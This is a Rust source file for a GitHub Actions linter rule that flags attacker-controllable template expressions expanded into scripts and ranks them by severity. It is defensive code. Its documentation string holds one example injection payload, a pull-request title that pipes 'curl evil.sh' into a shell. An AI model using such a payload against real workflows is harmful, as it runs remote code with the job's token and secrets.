//! `template-injection`: attacker-controllable contexts expanded into code.

use std::sync::LazyLock;

use crate::finding::{Location, Severity};
use crate::model::contexts::{self, Control};
use crate::model::expr;
use crate::model::workflow::layered_env;
use crate::model::{Step, Workflow};
use crate::rules::{Cx, Rule, RuleMeta, StepHost};
use crate::source::Route;

pub struct TemplateInjection;

crate::rule_meta!(
    TemplateInjection,
    "template-injection",
    Severity::High,
    "attacker-controllable context expanded into a script",
    r#"## What it does
Finds `${{ … }}` expressions whose value an outside attacker controls expanded into code:
a `run:` script, the `script:` of `actions/github-script`, or an input that an action runs as
code (`azure/cli` and `azure/powershell` `inlineScript`, `Amadevus/pwsh-script` `script`,
`mikefarah/yq` `cmd`, `jannekem/run-python-script-action` `script`, … — the table is
`rules/workflow/code-inputs.txt`).

Which contexts anyone can set follows GitHub's script-injection guide, as data in
`rules/workflow/untrusted-contexts.txt` (high): issue, pull request, comment, review and
discussion titles and bodies, head branch names and labels, commit messages and authors,
`github.head_ref`, and any object that holds them serialised whole (`toJSON(github.event)`).
Contexts with a fixed shape are quiet (`rules/workflow/fixed-contexts.txt`: numbers, SHAs,
ids, …). Login names (`github.actor`), the workflow's name and merge-queue refs
(`github.event.merge_group.head_ref`) are low (`rules/workflow/low-contexts.txt`): an outsider
cannot craft them, but zizmor counts them and an `env:` variable costs nothing. Any other `github.*` or `inputs.*`
context is medium: whoever triggers the workflow may choose its text.

Only what can become the expression's *value* counts: `contains(github.event.issue.title,
'x')`, comparisons, `!x` and `cond && 'a' || 'b'` are constants or booleans and are quiet.
`workflow_dispatch`/`workflow_call` inputs typed `boolean`, `number`, `choice` or
`environment` are quiet too.

`env.NAME` is judged by the value the step actually sees: step `env` over job `env` over
workflow `env`. It is high when that value is attacker text, low when it is a step's or a
job's output (whose text tollgate cannot see), quiet otherwise. `steps.ID.outputs.NAME` is high
when an earlier step wrote attacker text to it through `$GITHUB_OUTPUT`.

Where tollgate deliberately differs from zizmor: `env.NAME` carrying attacker text is high
(zizmor: low); composite-action and `workflow_call` `inputs.*` are medium (zizmor: high);
a matrix value is judged by its contexts, so `prefix-${{ github.repository_owner }}` is quiet
(zizmor: medium); `needs.*.result`, `github.event_name`, `github.repository` and step outputs
expanded directly are quiet (zizmor: pedantic only).

## Why is this bad
GitHub substitutes the expression into the script text *before* the shell or Node.js runs it.
A pull request titled `a"; curl evil.sh | sh; echo "` becomes code running with the job's
token, secrets and cloud credentials. On `pull_request_target`, `issue_comment` or
`workflow_run` triggers that is a write token on the base repository.

## Example
```yaml
      - run: echo "Title: ${{ github.event.pull_request.title }}"
```

## Use instead
Pass the value through an environment variable, which the shell treats as data:
```yaml
      - run: echo "Title: $TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
```

## References
- https://securitylab.github.com/resources/github-actions-untrusted-input/
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
- CodeQL `actions/code-injection` sink models: https://github.com/github/codeql/tree/main/actions/ql/lib/ext
- zizmor `template-injection`: https://docs.zizmor.sh/audits/#template-injection
"#
);

/// Action inputs the action runs as code, as data beside the rule pack: `(action, input)`.
static CODE_INPUTS: LazyLock<Vec<(String, &'static str)>> = LazyLock::new(|| {
    include_str!("../../../rules/workflow/code-inputs.txt")
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .filter_map(|line| {
            let (action, input) = line.split_once(char::is_whitespace)?;
            Some((action.to_ascii_lowercase(), input.trim()))
        })
        .collect()
});

/// How dangerous expanding `context` into code is: high when outsiders choose its text,
/// medium when whoever triggers the workflow may, `None` when its shape is fixed.
pub fn danger(context: &str) -> Option<Severity> {
    contexts::control(context).map(|control| match control {
        Control::Anyone => Severity::High,
        Control::Triggerer => Severity::Medium,
        Control::Maintainers => Severity::Low,
    })
}

/// The places in a step where an expression becomes code: its `run:`, or an input of an action
/// that runs that input (github-script's `script`, azure/cli's `inlineScript`, …).
fn sinks<'a>(step: &Step<'a>) -> Vec<(Route, &'a str, String)> {
    if let Some(code) = step.run() {
        return vec![(step.route.key("run"), code, "a shell script".to_string())];
    }
    let Some(name) = step.action_name() else {
        return Vec::new();
    };
    CODE_INPUTS
        .iter()
        .filter(|(action, _)| {
            name.strip_prefix(action.as_str())
                .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        })
        .filter_map(|(action, input)| {
            let (key, value) = step
                .node
                .get("with")?
                .entries()
                .find(|(key, _)| key.eq_ignore_ascii_case(input))?;
            let sink = if action == "actions/github-script" {
                "github-script code".to_string()
            } else {
                format!("`{action}`'s `{key}`, which it runs as code")
            };
            Some((step.with_route(key), value.as_str()?, sink))
        })
        .collect()
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        Self::META
    }

    fn check_step(&self, cx: &mut Cx, host: &StepHost, step: &Step) {
        let sinks = sinks(step);
        if sinks.is_empty() {
            return;
        }
        let workflow = match host {
            StepHost::Job(workflow, _) => Some(*workflow),
            StepHost::Action(_) => None,
        };
        // Read only when an expression names a context: most `run:` steps have none, and
        // reading what earlier steps carry for each of them made long jobs quadratic.
        let reaching = std::cell::OnceCell::new();
        for (route, code, sink_name) in sinks {
            for expression in expr::expressions(code) {
                let worst = expr::value_contexts(expression.inner)
                    .into_iter()
                    .filter_map(|context| {
                        let carried = reaching.get_or_init(|| Carried::reaching(host, step));
                        judge(carried, workflow, &context, &sink_name)
                    })
                    .max_by_key(|(severity, _)| *severity);
                let Some((severity, message)) = worst else {
                    continue;
                };
                cx.report(
                    Self::META
                        .finding(
                            message,
                            Location::fragment(route.clone(), expression.text)
                                .labelled("expanded here before the code runs"),
                        )
                        .severity(severity),
                );
            }
        }
    }
}

/// The severity and message for one context expanded into a sink, or `None` when its text is
/// fixed.
fn judge(
    carried: &Carried,
    workflow: Option<&Workflow>,
    context: &str,
    sink_name: &str,
) -> Option<(Severity, String)> {
    if let Some(name) = env_name(context) {
        let (severity, origin) = carried.origin(name)?;
        let message = match severity {
            Severity::Low => format!(
                "`{context}` is set from `{origin}`, whose text tollgate cannot prove fixed, and is expanded into {sink_name}"
            ),
            _ => format!(
                "`{context}` carries the attacker-controllable `{origin}` and is expanded into {sink_name}"
            ),
        };
        return Some((severity, message));
    }
    if let Some((severity, origin)) = carried.output(context) {
        return Some((
            severity,
            format!(
                "`{context}` carries the attacker-controllable `{origin}` and is expanded into {sink_name}"
            ),
        ));
    }
    if let (Some(workflow), Some(input)) = (workflow, input_name(context))
        && workflow.input_is_typed(input)
    {
        return None;
    }
    let severity = danger(context)?;
    let message = match severity {
        Severity::High => {
            format!("`{context}` is attacker-controllable and is expanded into {sink_name}")
        }
        Severity::Low => format!(
            "`{context}` has a fixed shape or is set by the repository's maintainers; it is expanded into {sink_name}, where an `env:` variable would be safer"
        ),
        _ => format!(
            "`{context}` can be chosen by whoever triggers the workflow and is expanded into {sink_name}"
        ),
    };
    Some((severity, message))
}

/// `env.NAME` → `NAME`.
fn env_name(context: &str) -> Option<&str> {
    let name = context.strip_prefix("env.")?;
    (!name.is_empty() && !name.contains('.')).then_some(name)
}

/// `inputs.NAME` or `github.event.inputs.NAME` → `NAME`.
fn input_name(context: &str) -> Option<&str> {
    let name = context
        .strip_prefix("inputs.")
        .or_else(|| context.strip_prefix("github.event.inputs."))?;
    (!name.is_empty() && !name.contains('.')).then_some(name)
}

/// Values carried one hop into other contexts: the `env` a step sees (workflow, then job,
/// then step, the innermost winning) and `steps.ID.outputs.NAME` written to `$GITHUB_OUTPUT`
/// by an earlier step from attacker text. Expanding those is the same injection, one step
/// removed.
struct Carried {
    /// Env var name → (severity, the context its value comes from). Only names whose value is
    /// not provably fixed are here.
    env: Vec<(String, Severity, String)>,
    /// `steps.ID.outputs.NAME` → the untrusted context it carries.
    outputs: Vec<(String, String)>,
}

impl Carried {
    fn reaching(host: &StepHost, step: &Step) -> Self {
        let (blocks, steps, workflow) = match host {
            StepHost::Job(workflow, job) => (
                vec![
                    workflow.root.get("env"),
                    job.node.get("env"),
                    step.node.get("env"),
                ],
                job.steps(),
                Some(*workflow),
            ),
            StepHost::Action(action) => (vec![step.node.get("env")], action.steps(), None),
        };
        let mut env = Vec::new();
        for (name, value) in layered_env(&blocks) {
            if let Some((severity, origin)) = value.as_str().and_then(|v| env_value(v, workflow)) {
                env.push((name.to_string(), severity, origin));
            }
        }
        let mut outputs = Vec::new();
        for earlier in steps.iter().take_while(|s| s.route != step.route) {
            let (Some(id), Some(run)) = (earlier.node.get_str("id"), earlier.run()) else {
                continue;
            };
            let step_env: Vec<(String, String)> = earlier
                .node
                .get("env")
                .map(|env| {
                    env.entries()
                        .filter_map(|(name, value)| {
                            Some((name.to_string(), value.as_str().and_then(untrusted_in)?))
                        })
                        .collect()
                })
                .unwrap_or_default();
            for line in run.lines().filter(|l| l.contains("GITHUB_OUTPUT")) {
                let Some((name, value)) = output_assignment(line) else {
                    continue;
                };
                let origin = untrusted_in(value).or_else(|| {
                    step_env
                        .iter()
                        .find(|(var, _)| {
                            value.contains(&format!("${var}"))
                                || value.contains(&format!("${{{var}}}"))
                        })
                        .map(|(_, origin)| origin.clone())
                });
                if let Some(origin) = origin {
                    outputs.push((format!("steps.{id}.outputs.{name}"), origin));
                }
            }
        }
        Self { env, outputs }
    }

    fn origin(&self, name: &str) -> Option<(Severity, &str)> {
        self.env
            .iter()
            .find(|(var, _, _)| var.eq_ignore_ascii_case(name))
            .map(|(_, severity, origin)| (*severity, origin.as_str()))
    }

    fn output(&self, context: &str) -> Option<(Severity, &str)> {
        self.outputs
            .iter()
            .find(|(carrier, _)| carrier.eq_ignore_ascii_case(context))
            .map(|(_, origin)| (Severity::High, origin.as_str()))
    }
}

/// What an `env` value carries into `env.NAME`: attacker text (high), a step's or a job's
/// output, whose text tollgate cannot see (low), or nothing it need report (`None`): a
/// constant, a fixed context, or text chosen by whoever triggers the workflow, which `run:`
/// reads through the variable anyway.
fn env_value(text: &str, workflow: Option<&Workflow>) -> Option<(Severity, String)> {
    let mut worst: Option<(Severity, String)> = None;
    for context in expr::expressions(text)
        .into_iter()
        .flat_map(|e| expr::value_contexts(e.inner))
    {
        let severity = if danger(&context) == Some(Severity::High) {
            Severity::High
        } else if context.starts_with("steps.") || context.starts_with("needs.") {
            Severity::Low
        } else {
            continue;
        };
        if let (Some(workflow), Some(input)) = (workflow, input_name(&context))
            && workflow.input_is_typed(input)
        {
            continue;
        }
        if worst.as_ref().is_none_or(|(s, _)| severity > *s) {
            worst = Some((severity, context));
        }
    }
    worst
}

/// The first attacker-controlled context expanded in a value.
fn untrusted_in(text: &str) -> Option<String> {
    expr::expressions(text)
        .into_iter()
        .flat_map(|e| expr::value_contexts(e.inner))
        .find(|c| danger(c) == Some(Severity::High))
}

/// `echo "name=value" >> "$GITHUB_OUTPUT"` → `("name", "value")`.
fn output_assignment(line: &str) -> Option<(&str, &str)> {
    let mut text = line.split(">>").next()?.trim();
    for command in ["echo", "printf"] {
        if let Some(rest) = text.strip_prefix(command) {
            text = rest.trim_start();
        }
    }
    // Flags such as `-e` come before the text.
    while text.starts_with('-') {
        text = text
            .split_once(' ')
            .map_or("", |(_, rest)| rest)
            .trim_start();
    }
    let text = text.trim_start_matches(['"', '\'']);
    let (name, value) = text.split_once('=')?;
    let name = name.trim();
    (!name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-'))
    .then_some((name, value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns() {
        assert_eq!(danger("github.event.issue.title"), Some(Severity::High));
        assert_eq!(danger("github.event.inputs.name"), Some(Severity::Medium));
        assert_eq!(danger("github.actor"), Some(Severity::Low));
        assert_eq!(
            output_assignment(
                r#"echo "title=${{ github.event.issue.title }}" >> "$GITHUB_OUTPUT""#
            ),
            Some(("title", r#"${{ github.event.issue.title }}""#))
        );
    }
}
